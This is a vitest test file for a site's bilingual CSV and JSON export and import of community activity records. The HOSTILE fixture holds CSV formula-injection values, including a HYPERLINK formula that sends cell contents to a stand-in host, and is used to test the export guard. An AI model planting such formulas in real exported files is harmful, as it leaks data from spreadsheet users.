import { readFileSync } from "node:fs";
import path from "node:path";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { ACTIVITY_TYPES, readActivityType } from "../../lib/activities/activity-type-words.ts";
import { runCheck } from "../../lib/build/check-content.ts";
import { LANGUAGES } from "../../lib/content/content-types.ts";
import { ACTIVITY_COLUMNS } from "../../lib/csv/activity-columns.ts";
import { activityDataTable, activityTable, activityTemplate, type Labels } from "../../lib/csv/export-tables.ts";
import { planImport, type PlanOptions } from "../../lib/csv/plan-import.ts";
import { readExistingActivities } from "../../lib/csv/read-existing-activities.ts";
import { matchVocabulary, vocabularyValues } from "../../lib/csv/vocabulary.ts";
import { csvText } from "../../lib/site/download-tables.ts";
import { createSiteContext } from "../../lib/site/site-context.ts";
import { compileValidators } from "../../lib/schema/validator.ts";
import type { Activity, PrivacyAllowList } from "../../lib/types/content.generated.ts";
import { REPO_ROOT } from "../../support/content-tree.ts";

const validators = compileValidators();
const allowList = JSON.parse(readFileSync(path.join(REPO_ROOT, "data/privacy/allow-list.json"), "utf8")) as PrivacyAllowList;
const context = createSiteContext(runCheck(REPO_ROOT));
const labels =
  (lang: "id" | "en"): Labels =>
  (key) =>
    context.t(lang, key);
const options = (existing: PlanOptions["existing"]): PlanOptions => ({
  today: "2030-01-01",
  validate: validators.activity,
  allowList,
  existing,
});
const nothingStored = (): PlanOptions["existing"] => ({ hashes: new Set(), names: new Set() });
const bytes = (text: string) => Buffer.from(text, "utf8");
/** What the importer would store, without the bookkeeping it adds (source) or that no file carries (draft). */
const stored = ({ source: _source, draft: _draft, privacyExceptions: _exceptions, ...data }: Activity) => data;

describe("the activity export, in each language", () => {
  it("has published activities to check (the sample)", () => {
    expect(context.activities.length).toBeGreaterThan(20);
  });

  it("writes the teams' template columns first, headed in the reader's language, then what the site adds", () => {
    const id = activityTable(context.activities, "id", labels("id"));
    const en = activityTable(context.activities, "en", labels("en"));
    expect(csvText(id).split("\r\n")[0]).toBe(
      "\uFEFFNo;Tanggal;Kelurahan;Jenis Kegiatan;Forum/Tempat;Jumlah Peserta;Laki-laki;Perempuan;Keterangan;Kategori Forum;Pilar;Judul;Judul (EN);Keterangan (EN);Mitra;Peserta di bawah 25",
    );
    expect(csvText(en).split("\r\n")[0]).toBe(
      "\uFEFFNo,Date,Kelurahan,Activity type,Venue,Participants,Men,Women,Notes (Indonesian),Forum category,Pillar,Title (Indonesian),Title,Notes,Partners,Under 25",
    );
    expect([id.name, id.delimiter, en.name, en.delimiter]).toEqual(["kegiatan.csv", ";", "activities.csv", ","]);
  });

  it("writes words people write, never codes, and numbers the rows 1, 2, 3…", () => {
    const id = activityTable([{ ...context.activities[0]!, data: SAMPLE }], "id", labels("id"));
    expect(id.rows[0]!.slice(0, 11)).toEqual([
      "1",
      "04/11/2024",
      "Jombang",
      "Sosialisasi",
      "Majelis Taklim Nurul Falah",
      "30",
      "12",
      "18",
      "Tanya jawab",
      "Majelis taklim",
      "Peningkatan kesadaran",
    ]);
    const en = activityTable([{ ...context.activities[0]!, data: SAMPLE }], "en", labels("en"));
    expect(en.rows[0]!.slice(0, 11)).toEqual([
      "1",
      "04/11/2024",
      "Jombang",
      "Awareness session",
      "Majelis Taklim Nurul Falah",
      "30",
      "12",
      "18",
      "Tanya jawab",
      "Majelis taklim (religious study group)",
      "Awareness raising",
    ]);
    const all = activityTable(context.activities, "id", labels("id"));
    expect(all.rows.map((row) => row[0])).toEqual(context.activities.map((_, i) => String(i + 1)));
    const codes = new Set<string>(
      context.activities.flatMap(({ data }) => [data.kelurahan, data.activityType, data.forum, data.pillar ?? ""]),
    );
    for (const lang of LANGUAGES) {
      const table = activityTable(context.activities, lang, labels(lang));
      const listed = ["kelurahan", "activityType", "forum", "pillar"].map((key) =>
        ACTIVITY_COLUMNS.findIndex((column) => column.key === key),
      );
      for (const row of table.rows) for (const index of listed) expect(codes.has(row[index]!), `${lang}: ${row[index]}`).toBe(false);
    }
  });

  for (const lang of LANGUAGES) {
    it(`imports back as all "already there" (${lang}): nothing added, no error`, () => {
      const table = activityTable(context.activities, lang, labels(lang));
      const plan = planImport(bytes(csvText(table)), options(readExistingActivities(REPO_ROOT)));
      expect(plan.summary.errors).toEqual([]);
      expect(plan.summary).toMatchObject({
        total: table.rows.length,
        imported: 0,
        keptBack: 0,
        rejected: 0,
        blank: 0,
        delimiter: table.delimiter,
      });
      expect(plan.summary.duplicates).toBe(table.rows.length);
      expect(plan.files).toEqual([]);
    });

    it(`loses nothing (${lang}): every field read back equals the published activity`, () => {
      const table = activityTable(context.activities, lang, labels(lang));
      const plan = planImport(bytes(csvText(table)), options(nothingStored()));
      expect(plan.summary.errors).toEqual([]);
      expect(plan.rows.map((row) => row.outcome)).toEqual(table.rows.map(() => "add"));
      expect(plan.rows.map((row) => row.no)).toEqual(table.rows.map((_, i) => String(i + 1)));
      expect(plan.rows.map((row) => row.activity)).toEqual(context.activities.map(({ data }) => stored(data)));
    });

    it(`keeps every value a formula could hide in, through the guard and back (${lang})`, () => {
      const table = activityTable([{ ...context.activities[0]!, data: HOSTILE }], lang, labels(lang));
      const text = csvText(table);
      const cells = Papa.parse<string[]>(text.slice(1), { delimiter: table.delimiter }).data[1]!;
      for (const line of cells.flatMap((cell) => cell.split(/\r\n|\n|\r/))) expect(line).not.toMatch(/^[=+\-@\t\r]/);
      const plan = planImport(bytes(text), options(nothingStored()));
      expect(plan.summary.errors).toEqual([]);
      expect(plan.rows[0]!.activity).toEqual(stored(HOSTILE));
    });
  }

  it("survives a spreadsheet's save: quotes only where needed, no BOM, a row added at the end", () => {
    const table = activityTable(context.activities, "id", labels("id"));
    const parsed = Papa.parse<string[]>(csvText(table).slice(1), { delimiter: ";" }).data.filter((row) => row.length > 1);
    const added = ["56", "05/12/2024", "Muncul", "Kerja bakti", "Balai warga Muncul", "25", "15", "10", "", "", "", "", "", "", "", ""];
    const saved = Papa.unparse([...parsed, added], { delimiter: ";", newline: "\r\n" });
    const plan = planImport(bytes(saved), options(readExistingActivities(REPO_ROOT)));
    expect(plan.summary.errors).toEqual([]);
    expect(plan.summary).toMatchObject({ imported: 1, duplicates: table.rows.length, rejected: 0 });
    expect(JSON.parse(plan.files[0]!.text)).toMatchObject({
      date: "2024-12-05",
      kelurahan: "muncul",
      activityType: "community-service",
      pillar: "social-cohesion",
    });
  });

  it("names every value of every list with words the importer reads back as that value", () => {
    for (const lang of LANGUAGES) {
      for (const name of ["kelurahan", "pillar", "forum"] as const) {
        for (const code of vocabularyValues(name))
          expect(matchVocabulary(name, context.t(lang, `${name}.${code}`)), `${lang} ${name}.${code}`).toBe(code);
      }
      for (const [type, words] of Object.entries(ACTIVITY_TYPES)) expect(readActivityType(words[lang])?.type, `${lang} ${type}`).toBe(type);
    }
  });

  it("writes the code when an editor renames a label to words the importer does not know", () => {
    const renamed: Labels = (key) => (key === "kelurahan.jombang" ? "Kampung Jombang Raya" : context.t("id", key));
    expect(activityTable([{ ...context.activities[0]!, data: SAMPLE }], "id", renamed).rows[0]![2]).toBe("jombang");
  });
});

describe("the activity JSON", () => {
  it("keeps the stored codes and ISO dates, named by the stored fields", () => {
    const table = activityDataTable([{ ...context.activities[0]!, data: { ...SAMPLE, partners: ["Kesbangpol", "KUA; Kecamatan"] } }]);
    expect(table.header).toEqual([
      "date",
      "kelurahan",
      "activityType",
      "venue",
      "participants.total",
      "participants.men",
      "participants.women",
      "notes.id",
      "forum",
      "pillar",
      "title.id",
      "title.en",
      "notes.en",
      "partners",
      "participants.youth",
    ]);
    expect(table.rows[0]).toEqual([
      "2024-11-04",
      "jombang",
      "socialisation",
      "Majelis Taklim Nurul Falah",
      "30",
      "12",
      "18",
      "Tanya jawab",
      "majelis-taklim",
      "awareness",
      "Sosialisasi di Majelis Taklim Nurul Falah",
      "Awareness session at Majelis Taklim Nurul Falah",
      "",
      "Kesbangpol\nKUA; Kecamatan",
      "",
    ]);
  });
});

describe("the blank template", () => {
  const id = activityTemplate("id", labels("id"));
  const en = activityTemplate("en", labels("en"));

  it("has the teams' own columns only, as their Excel writes them, and one example row", () => {
    expect(csvText(id)).toBe(
      "\uFEFFNo;Tanggal;Kelurahan;Jenis Kegiatan;Forum/Tempat;Jumlah Peserta;Laki-laki;Perempuan;Keterangan\r\nContoh;04/11/2024;Jombang;Sosialisasi;Majelis Taklim Nurul Falah;30;12;18;Dilanjutkan tanya jawab tentang berita bohong di media sosial\r\n",
    );
    expect([id.name, en.name]).toEqual(["templat-kegiatan.csv", "activity-template.csv"]);
    expect(en.header).toEqual(["No", "Date", "Kelurahan", "Activity type", "Venue", "Participants", "Men", "Women", "Notes (Indonesian)"]);
    expect(en.rows[0]!.slice(0, 4)).toEqual(["Example", "04/11/2024", "Jombang", "Awareness session"]);
  });

  for (const template of [id, en]) {
    it(`imports nothing from the example row, and says so (${template.name})`, () => {
      const plan = planImport(bytes(csvText(template)), options(nothingStored()));
      expect(plan.summary).toMatchObject({ total: 1, imported: 0, blank: 1, rejected: 0, errors: [] });
      expect(plan.summary.warnings.map((warning) => warning.message.en)).toEqual([expect.stringContaining("example row")]);
      expect(plan.files).toEqual([]);
    });

    it(`imports the example once its No is a number: it shows a row the importer reads in full (${template.name})`, () => {
      const filled = csvText(template).replace(/\r\n(Contoh|Example)/, "\r\n1");
      const plan = planImport(bytes(filled), options(nothingStored()));
      expect(plan.summary).toMatchObject({ imported: 1, errors: [] });
      expect(plan.rows[0]!.activity).toMatchObject({
        date: "2024-11-04",
        kelurahan: "jombang",
        activityType: "socialisation",
        pillar: "awareness",
        venue: "Majelis Taklim Nurul Falah",
        forum: "majelis-taklim",
        participants: { total: 30, men: 12, women: 18 },
      });
    });
  }
});

const SAMPLE: Activity = {
  date: "2024-11-04",
  kelurahan: "jombang",
  pillar: "awareness",
  activityType: "socialisation",
  venue: "Majelis Taklim Nurul Falah",
  forum: "majelis-taklim",
  title: { id: "Sosialisasi di Majelis Taklim Nurul Falah", en: "Awareness session at Majelis Taklim Nurul Falah" },
  participants: { total: 30, men: 12, women: 18 },
  notes: { id: "Tanya jawab" },
  source: { kind: "cms" },
};

/** Every way into a formula, including a second line, a separator in a lone partner and apostrophes already there (no line starting with TAB: the importer trims line starts, so no stored text has one). */
const HOSTILE: Activity = {
  date: "2024-11-20",
  kelurahan: "muncul",
  pillar: "awareness",
  activityType: "dialogue",
  venue: "-Aula; kantor kelurahan",
  forum: "online",
  title: { id: '=HYPERLINK("http://example.org/?"&A1,"klik")', en: "-2+3 @(1)" },
  participants: { total: 9, women: 4, men: 5, youth: 2 },
  partners: ["+Kesbangpol; Provinsi"],
  notes: { id: "Baris pertama\n=1+1\n-minus\n'=sudah ada apostrof", en: "@(1)+1" },
  source: { kind: "cms" },
};
